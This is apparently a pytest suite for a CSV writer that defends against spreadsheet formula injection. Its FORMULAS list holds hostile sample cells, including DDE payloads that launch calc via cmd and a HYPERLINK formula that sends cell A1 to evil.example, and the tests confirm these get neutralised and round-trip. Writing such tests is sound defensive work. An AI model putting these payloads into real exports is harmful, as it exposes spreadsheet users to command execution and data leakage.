"""Tables as they are written: nothing in them is a formula, and everything comes back."""

import ast
import csv
import io
import math
import re
from collections.abc import Sequence
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import annotation
import crossmodal
import evaluation
import pipeline
from pipeline.csv_formulas import guarded, unguarded
from pipeline.csv_table import read_table
from pipeline.csv_writer import TableWriter

FORMULAS = [
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "  =1+1",
    " \t=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "\" ' =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹣1+1",
    "−1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060\u200d=1+1",
    "\u00ad=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x0b=1+1",
    "\x00=1+1",
    "\x7f=1+1",
    "\u202e=1+1",
    "\ufe0f=1+1",
    "\u3164=1+1",
    "＇=1+1",
    "-1+1",
    "-5%",
    "+49 30 1234",
    "-",
    "-inf",
    "=",
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "plain;=1+1",
    "plain; \u200b=1+1;rest",
    "plain\n=1+1\nrest",
    "plain\r\n@SUM(1)",
    '";=1+1;"',
]
# Formulas that nothing but quotation marks around the cell hides, and that they do hide.
INSIDE = ["plain\t=1+1", "a,b\t=1+1", '",=1+1', "a\t =1+1\tb"]
ORDINARY = [
    "'s time",
    "''",
    "'",
    "",
    "\n",
    "\t '",
    "a\tb",
    "a-b",
    "a=b",
    "me@example.org",
    "1-2",
    "3,5",
    "“Yes” – she said",
    "(-1)",
    "one, two; three",
    "two\nlines",
    'She said "no".',
    "٣",
    "https://youtu.be/x?a=b",
]
NUMBERS = ["-0.5", "+3", "-1e-05", "-12", "+.5", "-3.", "-0,5", "'-5", "0", "1E+10"]
# Signs that count, whatever stands before them.
SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫−"


def written(*rows: Sequence[object]) -> str:
    file = io.StringIO(newline="")
    TableWriter(file).write_rows(rows)
    return file.getvalue()


def read_cells(table: str) -> list[tuple[str, ...]]:
    found = read_table(table)
    assert found is not None
    return [found.raw_headings, *(row.cells for row in found.rows)]


def cells_of_libreoffice(table: str) -> list[str]:
    """What its import makes of a table as it is set at first: commas, semicolons and tabs divide, quotes count."""
    return [quoted or bare for quoted, bare in re.findall(r'(?:"((?:[^"]|"")*)"|([^,;\t\r\n]*))[,;\t\r\n]', table)]


def is_run(cell: str) -> bool:
    """Whether a spreadsheet would take this cell for a formula, said in another way than the code under test."""
    bare = cell.strip("\ufeff\u200b\u2060\u200d\u00ad\x00\x7f\u202e\ufe0f\u3164\x0b \u00a0\u3000")
    try:
        float(bare.replace(",", "."))
    except ValueError:
        seen = any(character.isprintable() and character not in "\"'＇＂ " for character in cell)
        return (cell[:1] in ("\t", "\r", "\n") and seen) or (bare[:1] != "" and bare[0] in SIGNS)
    return "inf" in bare


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_what_a_spreadsheet_would_run_has_a_quote_before_it_and_comes_back(text: str) -> None:
    assert guarded(text) != text
    table = written(["a", text, "b"], [text, 1, text])
    kept = text.replace("\0", "\ufffd")
    (heading, row) = read_cells(table)
    assert (heading, row) == (("a", kept, "b"), (kept, "1", kept))
    assert written(list(heading), [row[0], 1, row[2]]) == table


@pytest.mark.parametrize("text", [*ORDINARY, *NUMBERS], ids=ascii)
def test_other_texts_and_numbers_are_written_as_they_are(text: str) -> None:
    plain = io.StringIO(newline="")
    csv.writer(plain).writerow([text, "end"])
    assert written([text, "end"]) == plain.getvalue()
    assert unguarded(text) == text


def test_numbers_stay_numbers() -> None:
    numbers = [-1, -0.5, 1e-9, -1e300, math.inf, -math.inf, math.nan, np.float64(-0.25), np.int64(-3), None, True]
    plain = io.StringIO(newline="")
    csv.writer(plain).writerow(numbers)
    assert written(numbers) == plain.getvalue()


@pytest.mark.parametrize("text", [*FORMULAS, *INSIDE], ids=ascii)
def test_no_program_finds_a_formula_however_it_divides_the_cells(text: str) -> None:
    table = written(["a", text, "b"], [f"x{text}", -1, text])
    found = cells_of_libreoffice(table)
    for delimiter in ",;":  # Excel divides at the separator of the country's lists.
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=delimiter):
            found += row
    assert len(found) > 12
    assert not list(filter(is_run, found))
    assert ("-1" in found) == ("b" in found)


alphabet = st.sampled_from("'\"=+-@\t\r\n ;,|a1.\ufeff\u200b＝－＇x") | st.characters(
    codec="utf-8", exclude_characters="\0"
)
texts = st.text(alphabet, max_size=12)


@settings(max_examples=300, deadline=None)
@given(texts)
def test_any_text_comes_back_exactly(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not is_run(cell)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=4))
def test_any_table_comes_back_exactly_and_is_written_again_alike(rows: list[tuple[str, str]]) -> None:
    table = written(["id", "text"], *([f"r{n}{first}", second] for n, (first, second) in enumerate(rows)))
    cells = read_cells(table)
    assert cells[1:] == [(f"r{n}{first}", second) for n, (first, second) in enumerate(rows)]
    assert written(*map(list, cells)) == table


@pytest.mark.shared_data
def test_the_tables_of_2019_are_written_as_csv_writes_them(shared_data: Path) -> None:
    paths = sorted((shared_data / "seed2019").rglob("*.csv"))
    assert len(paths) == 10
    for path in paths:
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.reader(file))
        plain = io.StringIO(newline="")
        csv.writer(plain).writerows(rows)
        assert written(*(list(row) for row in rows)) == plain.getvalue(), path.name
        assert [[unguarded(cell) for cell in row] for row in rows] == rows, path.name


# ---------------------------------------------------------------- the one place

# Modules that read CSV, or join with commas what is no table; with what they may use of it.
ALLOWED = {
    "pipeline/csv_writer.py": {"csv.writer"},
    "pipeline/dataset.py": {"join"},  # names of columns in a sentence
    "pipeline/forms.py": {"join"},  # file endings of an attribute
    "pipeline/stages/cookie_file.py": {"join"},  # a cookie in the downloader's own form
}


def writing_means(path: Path) -> set[str]:
    """Ways to write a table that a module uses."""
    found = set()
    for node in ast.walk(ast.parse(path.read_text())):
        match node:
            case ast.Attribute(value=ast.Name(id="csv"), attr="writer" | "DictWriter" as name):
                found.add(f"csv.{name}")
            case ast.ImportFrom(module="csv" | "_csv"):
                found.add("from csv")
            case ast.Import(names=names) if any(name.name in ("csv", "_csv") and name.asname for name in names):
                found.add("csv as")
            case ast.Call(func=ast.Attribute(attr="to_csv" | "savetxt" as name)):
                found.add(name)
            case ast.Call(func=ast.Attribute(value=ast.Constant(value="," | ";" | "\t"), attr="join")):
                found.add("join")
    return found


def test_no_module_but_the_writer_writes_tables() -> None:
    found = {}
    for package in (annotation, crossmodal, evaluation, pipeline):
        root = Path(package.__path__[0])
        for path in sorted(root.rglob("*.py")):
            if means := writing_means(path):
                found[path.relative_to(root.parent).as_posix()] = means
    assert found == ALLOWED
